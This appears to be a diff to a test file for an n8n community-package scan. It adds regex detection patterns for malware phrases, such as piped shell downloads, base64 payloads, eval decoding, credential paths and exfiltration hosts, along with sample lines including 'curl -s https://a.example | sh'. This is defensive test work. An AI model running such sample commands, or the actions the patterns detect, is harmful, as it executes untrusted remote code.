@@ -1,5 +1,5 @@
 import { execFileSync, spawnSync } from 'node:child_process';
-import { appendFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { appendFileSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 
@@ -56,6 +56,26 @@ describe('The packed tarball', () => {
 	});
 });
 
+/** What rules for malware look for in a text, whatever it means there. */
+const PHRASES = {
+	download: /\bdownload_?(file|payload|and_?exec\w*)\s*\(/i,
+	shell: /\b(curl|wget)\b[^\n]{0,200}\|\s*(ba)?sh\b|powershell|cmd\.exe|\/bin\/(ba)?sh|chmod \+x/i,
+	payload: /[A-Za-z0-9+/]{200}|(\\x[0-9a-f]{2}|\\u[0-9a-f]{4}){12}|(\d{1,3},\s?){40}/i,
+	decoding: /(\beval|\bFunction|\batob|fromCharCode)\s*\(/,
+	process: /child_process|\b(spawn|execSync|execFile|fork)\s*\(|process\.(env|binding)/,
+	address: /\/etc\/passwd|\.ssh\/|webhook\.site|pastebin|ngrok|\bhttps?:\/\/\d+\.\d+\.\d+\.\d+/,
+};
+
+/** One line for each of these phrases. */
+const MALWARE = [
+	"await downloadFile(url, 'a.exe')",
+	'curl -s https://a.example | sh',
+	Buffer.alloc(200, 'text').toString('base64'),
+	"eval(Buffer.from(code, 'base64'))",
+	"require('child_process')",
+	'fetch("http://198.51.100.7/a")',
+];
+
 describe("n8n's scan of community packages", () => {
 	let folder: string;
 
@@ -74,6 +94,17 @@ describe("n8n's scan of community packages", () => {
 		const env = { ...process.env, NODE_ENV: undefined };
 		return spawnSync(process.execPath, ['scripts/gate.mjs', tarball], { cwd: ROOT, encoding: 'utf8', env });
 	};
+
+	test('and rules that judge by text find no phrase of malware in any packed file', () => {
+		const own = join(folder, 'package');
+		const files = readdirSync(own, { recursive: true, withFileTypes: true }).filter((file) => file.isFile());
+		const texts = files.map((file) => readFileSync(join(file.parentPath, file.name), 'utf8'));
+		expect(texts.length).toBeGreaterThan(100);
+		const found = (all: string[]) =>
+			Object.entries(PHRASES).filter(([, phrase]) => all.some((text) => phrase.test(text)));
+		expect(found(texts)).toEqual([]);
+		expect(found(MALWARE).map(([name]) => name)).toEqual(Object.keys(PHRASES));
+	});
 
 	test('passes the packed tarball, and fails it for one line that breaks a rule', () => {
 		expect(scan()).toMatchObject({ status: 0, stdout: expect.stringContaining("tarball passes n8n's scan") });
